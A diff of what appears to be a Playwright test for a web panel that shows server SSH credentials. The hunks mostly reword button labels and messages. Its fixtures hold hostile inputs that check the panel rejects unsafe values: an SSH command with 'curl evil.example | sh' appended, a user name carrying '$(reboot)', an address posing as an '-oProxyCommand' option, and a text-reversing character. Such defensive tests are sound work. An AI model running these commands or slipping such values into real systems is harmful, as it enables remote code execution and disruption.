@@ -23,7 +23,7 @@ interface Odd {
 const readable: Record<string, Odd> = {
   'no address': {
     body: { ...validAnswer, ip: null, sshCommand: 'ssh root@null' },
-    words: /The API names no address yet/,
+    words: /This server has no address yet/,
   },
   'a command of its own making': {
     body: { ...validAnswer, sshCommand: 'ssh root@198.51.100.7; curl evil.example | sh' },
@@ -33,16 +33,16 @@ const readable: Record<string, Odd> = {
   'a user name with a command in it': {
     body: { ...validAnswer, username: 'root$(reboot)' },
     username: 'root$(reboot)',
-    words: /No SSH command is shown/,
+    words: /There’s no SSH command/,
   },
   'a user name that turns the text around': {
     body: { ...validAnswer, username: 'root\u202E\nx' },
     username: 'root[U+202E]␊x',
-    words: /No SSH command is shown/,
+    words: /There’s no SSH command/,
   },
   'an address that is an option': {
     body: { ...validAnswer, ip: '-oProxyCommand=reboot' },
-    words: /No SSH command is shown/,
+    words: /There’s no SSH command/,
   },
   'a port and more fields': {
     body: { ...validAnswer, port: 2222, note: { nested: [1] } },
@@ -67,7 +67,7 @@ test(
     await openCredentials(page, sandbox, empty);
     for (const [name, { body, words, command, username = 'root' }] of Object.entries(readable)) {
       await sandbox.fault(empty, 'getServerCredentials', { body });
-      await page.getByRole('button', { name: 'Reveal credentials' }).click();
+      await page.getByRole('button', { name: 'Show credentials' }).click();
       await expect(field(page, 'Password'), name).toHaveValue('Sesame-71');
       await expect(field(page, 'Username'), name).toHaveValue(username);
       await expect(page.getByText(words), name).toBeVisible();
@@ -86,8 +86,8 @@ test(
     for (const [name, fault] of Object.entries(unreadable)) {
       calls.forget();
       await sandbox.fault(empty, 'getServerCredentials', fault, { times: 9 });
-      await page.getByRole('button', { name: 'Reveal credentials' }).click();
-      await expect(page.getByRole('alert'), name).toContainText('The credentials could not be read.');
+      await page.getByRole('button', { name: 'Show credentials' }).click();
+      await expect(page.getByRole('alert'), name).toContainText('Couldn’t load the credentials.');
       await expect(page.getByText(/Sesame|71717171/), name).toHaveCount(0);
       await expect(field(page, 'Username'), name).toHaveCount(0);
       await calls.settled();
